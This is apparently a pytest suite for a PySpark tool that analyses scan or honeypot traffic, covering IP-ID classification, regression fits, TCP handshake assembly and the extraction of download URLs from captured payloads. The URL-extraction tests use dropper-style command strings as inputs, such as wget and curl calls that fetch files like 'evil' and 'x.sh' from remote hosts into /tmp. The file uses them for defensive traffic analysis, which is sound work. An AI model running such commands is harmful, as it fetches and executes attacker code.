"""Worked examples: series, fits, stores, payloads, handshakes."""

import random

import pytest
from pyspark.sql import functions as F

from duskwatch.functions import net
from duskwatch.functions import payload as pl
from duskwatch.operators import handshakes, ipid, matching, reaction, reports, stats, stores


def replies(spark, *series, trigger=(0, 0), proto="tcp", probes=4, at=None):
    rows = [(k, proto, trigger[0], trigger[1], probes, at[i] if at else 1000 * (i + 1), v) for k, s in enumerate(series) for i, v in enumerate(s)]
    return spark.createDataFrame(rows, "task int, proto string, trigger_ms long, trigger_ipid int, num_probes int, ts_ms long, ipid int")


def classes(spark, method, *series, probes=4):
    return [r["class"] for r in ipid.classify_ipid(replies(spark, *series, probes=probes), method).orderBy("task").collect()]


def test_distances_wrap_by_65535(spark):
    steps = ipid.with_steps(replies(spark, [10, 400], [300, 30000], [65000, 10])).where("step is not null").orderBy("task")
    assert [r["step"] for r in steps.collect()] == [390, 29700, 545]


def test_classifiers(spark):
    assert classes(spark, "trivial", [60], [60] * 4, [60, 60, 60, 20061], [0, 1, 2, 3], [55000, 60000, 65000, 4000], [60, 60, 60, 20060]) == ["unchecked", "constant", "random", "monotonic", "monotonic", "other"]
    assert classes(spark, "midar", [1, 2], [30, 30, 40, 50], [0, 1, 2, 3], [5, 4, 3, 2], [0, 1, 2, 2 + 19660], [0, 1, 2, 2 + 19661]) == ["unchecked", "constant", "monotonic", "other", "monotonic", "other"]
    assert classes(spark, "midar", [1, 2, 3], probes=5) == ["unchecked"]


def test_consistency(spark):
    good = replies(spark, [50696, 51665, 51874, 52681], trigger=(1556592035960, 50695), at=[1556592035961, 1556592036963, 1556592037963, 1556592038964])
    for mode in ("as_written", "modular"):
        assert [r["consistent"] for r in ipid.consistency(good, mode=mode).collect()] == [True]
    low = replies(spark, [10000, 10100, 10200, 10300], trigger=(0, 9000))
    assert [r["consistent"] for r in ipid.consistency(low).collect()] == [True]
    assert [r["consistent"] for r in ipid.consistency(low, mode="modular").collect()] == [False]


def test_worked_fit(spark):
    points = [(133, 34212), (1119, 34215), (2100, 34221), (3116, 34227)]
    df = spark.createDataFrame([(0, float(x), float(y)) for x, y in points], "k int, x double, y double")
    r = stats.fit_by(df, ["k"], "x", "y", t=3.18).first()
    assert r["m"] == pytest.approx(0.005138980438) and r["b"] == pytest.approx(34210.4402686318)
    assert r["sigma"] == pytest.approx(1.1266129892) and r["se"] == pytest.approx(1.5032174326)
    assert (r["high"] - r["low"]) / 2 == pytest.approx(4.7802314357)
    parabola = spark.createDataFrame([(0, float(x), 50.0 - x * x) for x in range(-7, 8)], "k int, x double, y double")
    assert stats.series_stats(parabola, ["k"], "x", "y").first()["correlation"] == pytest.approx(0, abs=1e-12)
    assert stats.fit_by(spark.createDataFrame([(0, 1.0, 2.0)], "k int, x double, y double"), ["k"], "x", "y").first()["sigma"] is None


def test_stores(spark):
    rows = [("foo", 2, True), ("foo", 2, False), ("foo", 3, True), ("foo", 1, False), ("bar", 4, False)]
    merged = {r["addr"]: (r["ts"], r["consistent"]) for r in stores.merge_stores(spark.createDataFrame(rows, "addr string, ts long, consistent boolean")).collect()}
    assert merged == {"foo": (3, True), "bar": (4, False)}
    three = spark.createDataFrame([("foo", 1, True), ("bar", 2, True), ("baz", 1, True)], "addr string, ts long, consistent boolean")
    assert [r["addr"] for r in stores.remove_if(three, F.col("ts") != 2).collect()] == ["bar"]
    generations = spark.createDataFrame([("foo", 0, 1, True), ("bar", 1, 1, True), ("new", 2, 1, True)], "addr string, gen int, ts long, consistent boolean")
    assert sorted(r["addr"] for r in stores.latest_in_generations(generations, 2).collect()) == ["bar", "new"]
    keys = spark.createDataFrame([("foo",), ("no",)], "addr string")
    assert {r["addr"]: r["ts"] for r in stores.store_lookup(keys, three).collect()} == {"foo": 1, "no": 0}
    assert stores.age_out(three, now=10, max_age=100).count() == 3


def urls(spark, *texts):
    df = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "i int, t string")
    out = {i: [] for i in range(len(texts))}
    for r in pl.extract_urls(df, "t").orderBy("i").collect():
        out[r["i"]].append((r["tool"], r["url"], r["server"], r["port"], r["name"]))
    return [out[i] for i in range(len(texts))]


def test_commands(spark):
    got = urls(spark, "wget http://141.22.28.35/evil", "cd /tmp;curl -O http://h.example:8080/x.sh", "wget", "wget -g 1.2.3.4 -l /tmp/a -r /b/c", "wget 1.2.3.4", "User-Agent: curl", "a%zz+wget+http://x/y", "wget -O out http://u/v;curl -A agent host/p", "curl -s", "wget https://s/t")
    assert got[0] == [("wget", "http://141.22.28.35/evil", "141.22.28.35", "80", "evil")]
    assert got[1] == [("curl", "http://h.example:8080/x.sh", "h.example", "8080", "x.sh")]
    assert got[2] == [] and got[5] == [] and got[8] == []
    assert got[3] == [("wget", "http://1.2.3.4/b/c", "1.2.3.4", "80", "c")]
    assert got[4][0][1] == "http://1.2.3.4" and got[6][0][1] == "http://x/y"
    assert [u[:2] for u in got[7]] == [("wget", "http://u/v"), ("curl", "http://host/p")]
    assert got[9][0][1:3] == ("https://s/t", "s")


def test_hex(spark):
    df = spark.createDataFrame([("77676574",), ("7",), ("zz",), ("fffe00",), ("",)], "p string")
    assert [r[0] for r in df.select(pl.hex_to_text("p")).collect()] == ["wget", None, None, None, ""]
    assert [r[0] for r in df.select(pl.looks_printable("p")).collect()][:1] == [True]


PACKET = "step int, ts_ms long, saddr long, daddr long, ipid int, ttl int, proto string, sport int, dport int, anum long, snum long, options string, payload string, syn int, ack int, rst int, fin int, method string, userid long, probe_anum long, con_ms long"


def packet(step, ts, kind, sport=1000, snum=0, anum=0, con=5, payload="", rst=0, dport=80):
    syn, ack = (0, 1) if kind == "ack" else (1, 0)
    return (step, ts, 1, 2, 54321 if kind == "isyn" else 7, 64, "tcp", sport, dport, anum, snum, "mss" if syn else "", payload, syn, ack, rst, 0, "m", step, snum + 1 if syn else 0, None if con is None else ts + con)


def assembled(spark, *packets):
    rows = handshakes.assemble_handshakes(spark.createDataFrame(list(packets), PACKET)).collect()
    return sorted((r["tag"], r["isyn"], r["iack"], r["rsyn"], r["rack"], r["repeated"]) for r in rows) if all(r["isyn"] is not None and r["rsyn"] is not None for r in rows) else sorted(((r["tag"], r["isyn"], r["iack"], r["rsyn"], r["rack"], r["repeated"]) for r in rows), key=str)


def test_two_phases_and_contention(spark):
    full = assembled(spark, packet(1, 0, "isyn", snum=5), packet(2, 2000, "rsyn", 1001, snum=10), packet(3, 2040, "ack", 1001, snum=11))
    assert full == [("two-phase", 1, None, 2, 3, False)]
    two = assembled(spark, packet(1, 0, "isyn"), packet(2, 2000, "rsyn", 1001), packet(3, 3000, "rsyn", 1002))
    assert two == [("rsyn", None, None, 3, None, False), ("two-phase (no ack)", 1, None, 2, None, False)]


def test_limits_of_the_phase(spark):
    def tags(*p):
        return sorted(x[0] for x in assembled(spark, *p))

    assert tags(packet(1, 0, "isyn"), packet(2, 599_999, "rsyn", 1001)) == ["two-phase (no ack)"]
    assert tags(packet(1, 0, "isyn"), packet(2, 600_005, "rsyn", 1001)) == ["isyn", "rsyn"]
    assert tags(packet(1, 0, "isyn", con=3000), packet(2, 2000, "rsyn", 1001)) == ["two-phase (no ack)"]
    assert tags(packet(1, 0, "isyn", con=4000), packet(2, 2000, "rsyn", 1001)) == ["isyn", "rsyn"]
    assert tags(packet(1, 0, "isyn", con=None), packet(2, 2000, "rsyn", 1001)) == ["isyn", "rsyn"]
    assert tags(packet(1, 0, "rsyn", rst=1)) == []
    assert tags(packet(1, 10, "ack", 1000, snum=6), packet(2, 50, "rsyn", 1000, snum=5)) == ["rsyn (acked)"]


def test_repeats_are_flagged(spark):
    rows = assembled(spark, packet(1, 0, "isyn"), packet(2, 1000, "rsyn", 1001, snum=10), packet(3, 5000, "rsyn", 1002, snum=20), packet(4, 5040, "ack", 1002, snum=21))
    assert ("rsyn (acked)", None, None, 3, 4, True) in rows and ("two-phase (no ack)", 1, None, 2, None, False) in rows


def test_retransmits_at_the_hour_edge(spark):
    h = 3_600_000
    rows = [packet(i, t, "rsyn") for i, t in enumerate((h - 10, h + 10, 2 * h + h // 2 - 1, 3 * h + h // 2, 6 * h))]
    out = matching.flag_retransmits(spark.createDataFrame(rows, PACKET)).orderBy("ts_ms")
    assert [r["retransmit"] for r in out.collect()] == [False, True, True, False, False]


def greedy(packets, confs, reach):
    """Each packet in order takes its first free confirmation within reach."""
    free, got = sorted(confs), {}
    for ts, step in sorted(packets):
        hit = next((c for c in free if abs(c - ts) <= reach), None)
        if hit is not None:
            free.remove(hit)
            got[ts, step] = hit
    return got


def test_greedy_matching_under_contention(spark):
    rng = random.Random(3)
    packets, confs, want = [], [], {}
    for u in range(60):
        ps = [(rng.randint(0, 400), k) for k in range(rng.randint(1, 6))]
        cs = [rng.randint(0, 400) for _ in range(rng.randint(0, 6))]
        want |= {(u, *k): c for k, c in greedy(ps, cs, 50).items()}
        packets += [(k, ts, 1, 2, 10, 20, "m", u, "x") for ts, k in ps]
        confs += [(u, "m", 2, 1, 20, 10, c) for c in cs]
    packets += [(0, 5, 1, 2, 10, 20, None, 7, "unprobed"), (1, 5, None, 2, 10, 20, "m", 7, "no address")]
    p = spark.createDataFrame(packets, "step int, ts_ms long, saddr long, daddr long, sport int, dport int, method string, userid long, con_note string")
    c = spark.createDataFrame(confs, "userid long, method string, saddr long, daddr long, sport int, dport int, ts_ms long")
    out = matching.match_confirmations(p, c, 50)
    assert out.columns == [*p.columns, "con_ms"]
    rows = out.collect()
    assert [r["con_ms"] for r in rows if r["con_note"] == "unprobed"] == [None]
    assert {(r["userid"], r["ts_ms"], r["step"]): r["con_ms"] for r in rows if r["con_note"] == "x"} == want
    assert matching.match_confirmations(p.limit(0), c).count() == 0 and matching.match_confirmations(p, c.limit(0)).count() == 1


def test_throttle_counts_from_the_last_attempt(spark):
    df = spark.createDataFrame([("u", t) for t in (0, 0, 5, 9, 11, 12, 21, 40)], "k string, ts_ms long")
    got = [(r["ts_ms"], r["attempted"]) for r in reports.throttle(df, "k", every_ms=10).orderBy("ts_ms", F.desc("attempted")).collect()]
    assert got == [(0, True), (0, False), (5, False), (9, False), (11, True), (12, False), (21, True), (40, True)]


def test_reactions(spark):
    rows = [packet(1, 0, "rsyn", snum=2**32 - 1), packet(2, 0, "ack", anum=9)]
    out = reaction.plan_reaction(spark.createDataFrame(rows, PACKET)).orderBy("step").collect()
    assert (out[0]["reaction"]["method"], out[0]["reaction"]["anum"], out[0]["reaction"]["saddr"]) == ("tcp-synack", 0, 2)
    assert (out[1]["reaction"]["method"], out[1]["reaction"]["snum"], out[1]["reaction"]["due_ms"]) == ("tcp-rst", 9, 5000)


def test_addresses(spark):
    df = spark.createDataFrame([("1.2.3.4",), ("256.1.1.1",), ("1.2.3",), (None,), ("255.255.255.255",)], "t string")
    assert [r[0] for r in df.select(net.ip_to_long("t")).collect()] == [16909060, None, None, None, 4294967295]
    assert df.select(net.cidr(F.lit("198.108.67.9/23"))).first()[0]["lo"] == net.bounds("198.108.66.0/23")[0]


def test_payloads_are_recovered_for_events_that_lack_one(spark):
    """Two events of one flow: the first has its payload, so the raw ACK serves the second."""
    events = spark.createDataFrame([("two-phase", 1, 2, 80, 7, 5, 1000, "aa", 10), ("two-phase", 1, 2, 80, 7, 5, 2000, "", 11), ("two-phase", 1, 2, 80, 7, 5, 3000, "", 12)], "tag string, saddr long, daddr long, dport int, rack_sport int, rack_snum long, ts_ms long, rack_payload string, rack long")
    raw = spark.createDataFrame([(1, 2, 7, 80, 5, 1, 0, "bb", 3_700_000, 1), (1, 2, 7, 80, 5, 1, 0, "cc", 3_700_001, 2)], "saddr long, daddr long, sport int, dport int, snum long, ack int, syn int, payload string, ts_ms long, step int")
    got = {r["rack"]: (r["rack_payload"], r["matched"]) for r in reports.recover_payloads(events, raw).collect()}
    assert got == {10: ("aa", False), 11: ("bb", True), 12: ("", False)}
    assert not any(r["matched"] for r in reports.recover_payloads(events, raw, same_hour=True).collect())


def test_downloads_and_their_events(spark):
    events = spark.createDataFrame([("u", 1, True), ("u", 2, False), ("v", 3, True), ("w", 4, True)], "url string, ts_ms long, attempted boolean")
    downloads = spark.createDataFrame([("u", 1, "ok", "x"), ("u", 2, "ok", "x"), ("v", 3, "404", None)], "url string, ts_ms long, status string, content string")
    got = {(r["url"], r["ts_ms"]): (r["status"], r["hash"] and r["hash"][:4]) for r in reports.download_events(events, downloads).collect()}
    assert got == {("u", 1): ("ok", "2d71"), ("u", 2): (None, None), ("v", 3): ("404", None), ("w", 4): (None, None)}
    assert [r["content"] for r in reports.hash_contents(downloads.where("content is not null")).collect()] == ["x"]
    assert reports.hash_downloads(downloads.where("content is not null")).count() == 2


def test_progress_counts_while_rows_are_consumed(spark):
    df, seen = reports.progress(spark.range(10), "walk", even=F.col("id") % 2 == 0)
    df.count()
    assert seen.get == {"rows": 10, "even": 5}
    assert [r["id"] for r in reports.first_rows(spark.range(10), 3, "id").collect()] == [0, 1, 2]


def test_a_parser_for_another_tool(spark):
    df = spark.createDataFrame([("tftp -g host;wget http://a/b",)], "t string")
    parse = lambda segment: F.concat(F.lit("tftp://"), F.regexp_extract(segment, r"-g (\S+)", 1))
    got = pl.extract_urls(df, "t", {"wget": pl.PARSERS["wget"], "tftp": parse}).collect()
    assert [(r["tool"], r["url"]) for r in got] == [("wget", "http://a/b"), ("tftp", "tftp://host")]
    first = df.select(pl.first_url_with_path("t").alias("u")).first()["u"]
    assert (first["tool"], first["path"], first["server"]) == ("wget", "/b", "a")


def test_student_t():
    for degrees, value in ((1, 12.7062), (2, 4.30265), (3, 3.18245), (12, 2.17881), (30, 2.04227)):
        assert stats.student_t(degrees) == pytest.approx(value, abs=1e-4)
    assert stats.student_t(5, 0.005) == pytest.approx(4.03214, abs=1e-4)


def test_products_and_flat_fits(spark):
    df = spark.createDataFrame([([1.0, 2.0], [3.0, 4.0])], "a array<double>, b array<double>")
    assert df.select(stats.products("a", "b")).first()[0] == [3.0, 8.0]
    flat = spark.createDataFrame([(0, 1.0, 2.0), (0, 1.0, 3.0)], "k int, x double, y double")
    r = stats.fit_by(flat, ["k"], "x", "y").first()
    assert (r["best_m"], r["best_b"]) == (0.0, 0.0)


def test_exact_line(spark):
    xs = [1.0, 2.0, 3.0, 4.0]
    rows = [(0, x, 2 * x + 1) for x in xs]
    r = stats.fit_by(spark.createDataFrame(rows, "k int, x double, y double"), ["k"], "x", "y").first()
    assert r["m"] == pytest.approx(2) and r["b"] == pytest.approx(1) and r["sigma"] == pytest.approx(0, abs=1e-9)


def test_textbook_regression(spark):
    """Minutes of computer repairs by units, a public textbook set."""
    xs = [1, 2, 3, 4, 4, 5, 6, 6, 7, 8, 9, 9, 10, 10]
    ys = [23, 29, 49, 64, 74, 87, 96, 97, 109, 119, 149, 145, 154, 166]
    df = spark.createDataFrame([(0, float(x), float(y)) for x, y in zip(xs, ys)], "k int, x double, y double")
    s = stats.series_stats(df, ["k"], "x", "y").first()
    assert s["covariance"] == pytest.approx(136.0) and round(s["correlation"], 3) == 0.994
    r = stats.fit_by(df, ["k"], "x", "y").first()
    assert (round(r["m"], 3), round(r["b"], 3), round(r["best_m"], 3)) == (15.509, 4.162, 15.509)
    assert r["sigma"] == pytest.approx(5.39172491669192) and (round(r["se_m"], 3), round(r["se_b"], 3)) == (0.505, 3.355)
    t = stats.student_t(12)
    assert (round(r["m"] - 2.18 * r["se_m"], 3), round(r["m"] + 2.18 * r["se_m"], 3)) == (14.408, 16.610) and round(t, 2) == 2.18
